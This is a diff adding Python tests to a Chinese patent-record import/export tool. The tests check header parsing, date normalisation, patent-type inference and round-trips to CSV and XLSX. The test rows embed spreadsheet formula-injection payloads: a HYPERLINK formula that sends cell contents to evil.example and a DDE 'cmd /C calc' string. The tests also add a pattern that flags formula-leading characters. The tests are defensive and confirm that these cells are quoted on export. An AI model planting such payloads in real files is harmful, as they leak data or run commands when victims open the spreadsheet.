@@ -178,3 +178,71 @@ def test_a_small_honest_xlsx_built_the_same_way_imports(tmp_path):
     out = run(tmp_path, "import", str(path))
     assert out.returncode == 0, out.stderr
     assert [r["title"] for r in exported(tmp_path)[0].values()] == ["一种装置"]
+
+
+# --- the base library's Chinese headers, formula text, and the export's round trip ---------------------
+
+BASE_LIBRARY_HEADERS = ["公开（公告）号", "专利名称", "申请（专利权）人", "专利类型", "申请日", "授权公告日", "法律状态",
+                        "发明（设计）人", "IPC分类号", "摘要", "所在县（市）区"]
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+BASE_LIBRARY_ROWS = [
+    ["CN201910000001A", FORMULA_TITLE, "福州大学", "发明专利", "2019-01-02", "2021年5月6日", "有权",
+     "+张三;李四", "H01M4/36", "本发明公开了一种正极材料。", "鼓楼区"],
+    ["CN202020000002U", "@SUM(1+1)", "闽江学院;福州某公司", "实用新型", "2020/03/04", "20200901", "-1+2",
+     "王五", "A23F3/06", "本实用新型公开了一种茶叶烘干装置。", "闽侯县"],
+    ["CN303000003S", "茶具（外观）", "福州大学", "", "2021-07-08", "", "有权", "\t=cmd|' /C calc'!A0", "",
+     "外观设计。", ""],
+]
+
+
+def _cells_start_like_formulas(values) -> list:
+    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_base_library_headers_import_and_the_export_neither_runs_formulas_nor_loses_anything(tmp_path):
+    src = tmp_path / "base.csv"
+    with open(src, "w", encoding="utf-8-sig", newline="") as f:
+        csv.writer(f).writerows([BASE_LIBRARY_HEADERS, *BASE_LIBRARY_ROWS])
+    out = run(tmp_path, "import", str(src))
+    assert out.returncode == 0, out.stderr
+    rows, xlsx = exported(tmp_path)
+    a, b, c = rows["CN201910000001A"], rows["CN202020000002U"], rows["CN303000003S"]
+    # codes and ISO dates in the CSV; the owner (专利权人) is the institution; the type from the column
+    # or, when empty, from the publication number's kind code
+    assert (a["patent_type"], a["filing_date"], a["grant_date"], a["institution"], a["county"]) == (
+        "invention", "2019-01-02", "2021-05-06", "福州大学", "鼓楼区")
+    assert (b["patent_type"], b["filing_date"], b["institution"], b["applicant"]) == (
+        "utility_model", "2020-03-04", "闽江学院", "闽江学院;福州某公司")
+    assert c["patent_type"] == "design"
+    # formula text is quoted, not live: in the CSV …
+    raw = list(csv.reader(io.StringIO(next(xlsx.parent.glob("*.csv")).read_bytes().decode("utf-8-sig"))))
+    assert not [cell for row in raw for cell in _cells_start_like_formulas(row)]
+    assert a["title"] == "'" + FORMULA_TITLE and a["inventors"] == "'+张三;李四" and b["legal_status"] == "'-1+2"
+    # … and in the XLSX people open: no formula cell anywhere, Chinese headers and values, real dates
+    wb = load_workbook(xlsx)
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert not _cells_start_like_formulas(cell.value for cell in cells)
+    sheet = wb["专利"]
+    head = [cell.value for cell in sheet[1]]
+    by_id = {r[0]: dict(zip(head, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
+    first = by_id["CN201910000001A"]
+    assert first["专利名称"] == "'" + FORMULA_TITLE and first["专利类型"] == "发明" and first["名称由摘要生成"] == "否"
+    assert first["申请日"].date().isoformat() == "2019-01-02" and first["授权公告日"].year == 2021
+    # both files re-import into an empty database as the same patents, field for field
+    for name in (xlsx, next(xlsx.parent.glob("*.csv"))):
+        fresh = tmp_path / f"fresh-{name.suffix[1:]}"
+        fresh.mkdir()
+        out = run(fresh, "import", str(name))
+        assert out.returncode == 0, out.stderr
+        assert exported(fresh)[0] == rows, name.suffix
+
+
+def test_an_unknown_patent_type_is_reported_by_line(tmp_path):
+    src = tmp_path / "base.csv"
+    bad = [list(r) for r in BASE_LIBRARY_ROWS]
+    bad[2][3] = "发明创造"
+    with open(src, "w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([BASE_LIBRARY_HEADERS, *bad])
+    refused(run(tmp_path, "import", str(src)), "line 4", "patent_type '发明创造'")
+    assert exported(tmp_path)[0] == {}
